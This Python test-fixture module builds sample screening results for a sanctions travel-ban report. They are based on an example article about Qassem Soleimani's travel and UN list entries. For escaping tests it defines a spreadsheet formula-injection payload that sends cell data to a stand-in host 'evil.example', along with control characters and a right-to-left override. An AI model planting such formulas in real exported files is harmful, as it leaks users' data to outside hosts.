"""Builders of realistic RunResults for the report tests (imported, not a pytest conftest).

The records are made by hand, as the screening stages would make them for the bundled
example article, so the report can be tested while those stages evolve. The list
entries are read from a real shipped UN list file.
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import date, datetime
from functools import cache
from pathlib import Path

from travelban.models import (
    AliasQuality,
    Article,
    ArticleFailure,
    DateRange,
    DateSource,
    Entry,
    EventStatus,
    Explanation,
    Extraction,
    Finding,
    ListInfo,
    Mention,
    NameMatch,
    Person,
    Place,
    Precision,
    RunResult,
    TokenAlignment,
    TravelEvent,
    Verdict,
)
from travelban.sanctions.parse import load_list

ROOT = Path(__file__).resolve().parents[1]
LIST_2015 = ROOT / "lists" / "un-consolidated-2015-03-27.xml"
EXAMPLE = ROOT / "examples" / "soleimani-moscow.txt"
SNAP = "un-consolidated-2015-03-27.xml"

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"click")'


@cache
def list_2015() -> tuple[ListInfo, dict[str, Entry]]:
    """The 2015 list file's facts and its entries by reference (parsed once)."""
    sl = load_list(LIST_2015)
    return sl.info, sl.by_reference()


def _match(query: str, ref: str, name: str, matched: str, score: float) -> NameMatch:
    q = query.split()
    m = matched.split()
    return NameMatch(
        query=query,
        reference=ref,
        name=name,
        matched_name=matched,
        alias_quality=AliasQuality.GOOD if matched.upper() != name.upper() else None,
        score=score,
        explanation=Explanation(
            scorer="token-jaro-winkler",
            threshold=0.80,
            alignments=tuple(
                TokenAlignment(a, b, 1.0 if a.lower() == b.lower() else 0.88, "translit")
                for a, b in zip(q, m, strict=False)
            ),
            adjustments=(("title 'Quds Force' corroborates designation", 0.03),),
            summary=f"{query!r} against {matched!r}",
        ),
        list_type="Iran",
    )


def soleimani_result(
    *,
    hostile: bool = False,
    started: datetime = datetime(2026, 1, 30, 9, 15, 0),
) -> RunResult:
    """The example article screened: three apparent breaches, plus the cases around them."""
    info, entries = list_2015()
    text = EXAMPLE.read_text(encoding="utf-8")
    raw = EXAMPLE.read_bytes()
    art = Article(
        source="examples/soleimani-moscow.txt",
        sha256=hashlib.sha256(raw).hexdigest(),
        text=text,
        title="Quds Force chief Soleimani held talks with Putin in Moscow",
        published=date(2015, 12, 16),
        published_source=DateSource.DATELINE,
        published_evidence="DUBAI, Dec 16, 2015 (Newswire) -",
    )
    person_name = HOSTILE if hostile else "Qassem Soleimani"
    soleimani = Person(
        pid="P1",
        name=person_name,
        mentions=(Mention("Qassem Soleimani", 150, 166, "name"),),
        titles=("general",),
        descriptions=("leads the Quds Force",),
        organisations=("Quds Force",),
        nationalities=("IR",),
    )
    putin = Person(pid="P2", name="Vladimir Putin", titles=("President",))
    moscow = Place("Moscow", "RU", "city", "gazetteer")
    russia = Place("Russia", "RU", "country", "gazetteer")
    tal = Place("Tal Ksaiba", "IQ", "town", "container:Salahuddin")
    tehran = Place("Tehran", "IR", "city", "gazetteer")
    week = DateRange("last week", date(2015, 12, 7), date(2015, 12, 13), Precision.WEEK, True)
    july = DateRange("in July", date(2015, 7, 1), date(2015, 7, 31), Precision.MONTH, True)
    march = DateRange("March 8, 2015", date(2015, 3, 8), date(2015, 3, 8), Precision.DAY)
    undated = DateRange("once")
    evidence_moscow = (
        "Qassem Soleimani, who leads the Quds Force, ... travelled to Moscow last week for "
        "talks with President Vladimir Putin, the Fars news agency said on Wednesday"
    )
    if hostile:
        evidence_moscow = "-2+3 @SUM(1) \x07bell\x00 and a\u202eright-to-left override"
    events = (
        TravelEvent(
            "P1",
            person_name,
            "visit",
            moscow,
            week,
            EventStatus.REPORTED,
            evidence_moscow,
            status_source="Fars news agency",
            sentence_index=1,
            trigger="travelled",
        ),
        TravelEvent(
            "P1",
            "Soleimani",
            "visit",
            russia,
            july,
            EventStatus.REPORTED,
            "Soleimani was last there in July, when, according to the same account, "
            "he helped prepare the ground for the Russian air campaign",
            sentence_index=5,
            trigger="there",
        ),
        TravelEvent(
            "P1",
            "Qassem Soleimani",
            "presence",
            tal,
            march,
            EventStatus.OCCURRED,
            "Quds Force commander Qassem Soleimani on the front line near the town of "
            "Tal Ksaiba in Salahuddin province, Iraq ... on March 8, 2015.",
            sentence_index=2,
            trigger="on the front line",
        ),
        TravelEvent(
            "P1",
            "Soleimani",
            "visit",
            russia,
            undated,
            EventStatus.OCCURRED,
            "It was not his first trip to Russia this year.",
            sentence_index=4,
            trigger="trip",
        ),
        TravelEvent(
            "P2",
            "Putin",
            "visit",
            tehran,
            DateRange("last month", date(2015, 11, 1), date(2015, 11, 30), Precision.MONTH, True),
            EventStatus.OCCURRED,
            "The talks came only weeks after Putin flew to Tehran last month",
            sentence_index=9,
            trigger="flew",
        ),
        TravelEvent(
            None,
            "",
            "arrival",
            None,
            DateRange("since late September"),
            EventStatus.OCCURRED,
            "Iran has sent hundreds of soldiers to Syria since late September",
            sentence_index=6,
        ),
    )
    extraction = Extraction(art, (soleimani, putin), events, (moscow, russia, tal, tehran))
    e39 = entries["IRi.039"]
    e40 = entries["IRi.040"]
    m39 = _match(person_name, "IRi.039", e39.name, "Qasem Soleimani", 0.93)
    m40 = _match(person_name, "IRi.040", e40.name, "Ghasem Soleymani", 0.71)
    findings = []
    rationale = (
        "IRi.039 listed on 2007-03-24; the Iran travel ban of resolution 1929 (2010) "
        "paragraph 10 was in force from 2010-06-09 to 2016-01-16; destination RU is not "
        "among the entry's nationalities (Iran); no exemption mentioned."
    )
    for ev, verdict, conf in (
        (events[0], Verdict.APPARENT_BREACH, 0.86),
        (events[1], Verdict.APPARENT_BREACH, 0.82),
        (events[2], Verdict.APPARENT_BREACH, 0.90),
        (events[3], Verdict.NEEDS_REVIEW, 0.40),
    ):
        findings.append(
            Finding(
                article=art.source,
                article_sha256=art.sha256,
                person=ev.person_name,
                person_id="P1",
                reference="IRi.039",
                listed_name=e39.name,
                event=ev,
                match=m39,
                verdict=verdict,
                regime="IR",
                resolution="1929 (2010)",
                paragraph="10",
                confidence=conf,
                rationale=rationale
                if verdict is Verdict.APPARENT_BREACH
                else "The trip has no date: the ban in force cannot be decided.",
                snapshots=(SNAP,),
            )
        )
    return RunResult(
        tool_version="0.1.0",
        started=started,
        settings=(("threshold", "0.8"), ("review_band", "0.65"), ("as_of", "")),
        list_info=info,
        snapshots=(info,),
        articles=(art,),
        failures=(ArticleFailure("inbox/empty.txt", "the file is empty"),),
        extractions=(extraction,),
        matches=(
            ("examples/soleimani-moscow.txt", "P1", m39),
            ("examples/soleimani-moscow.txt", "P1", m40),
        ),
        findings=tuple(findings),
        finished=datetime(2026, 1, 30, 9, 15, 2),
    )


def entries_for(result: RunResult) -> dict[str, Entry]:
    """The list entries a result refers to, from the real list file."""
    _, entries = list_2015()
    refs = {f.reference for f in result.findings} | {m.reference for _, _, m in result.matches}
    return {r: entries[r] for r in refs if r in entries}


def many_findings(n: int) -> RunResult:
    """A run with ``n`` findings over n/4 articles; evidence and rationale differ per article."""
    base = soleimani_result()
    info, _ = list_2015()
    (extraction,) = base.extractions
    findings = []
    extractions = []
    matches = []
    articles = []
    for i in range(max(1, n // 4)):
        sha = hashlib.sha256(f"article {i}".encode()).hexdigest()
        source = f"inbox/2015/article-{i:05d}.txt"
        art = Article(source, sha, extraction.article.text[:2000], published=date(2015, 12, 16))
        articles.append(art)
        events = tuple(
            replace(ev, evidence=f"{ev.evidence} (story {i}, sentence {ev.sentence_index})")
            for ev in extraction.events
        )
        extractions.append(Extraction(art, extraction.people, events))
        for _, pid, m in base.matches:
            matches.append((source, pid, m))
        for f, ev in zip(base.findings, events, strict=False):
            if len(findings) >= n:
                break
            findings.append(
                replace(
                    f,
                    article=source,
                    article_sha256=sha,
                    event=ev,
                    rationale=f"{f.rationale} Article {i} of the batch.",
                )
            )
    return RunResult(
        tool_version=base.tool_version,
        started=base.started,
        settings=base.settings,
        list_info=info,
        snapshots=(info,),
        articles=tuple(articles),
        failures=(),
        extractions=tuple(extractions),
        matches=tuple(matches),
        findings=tuple(findings),
        finished=base.finished,
    )
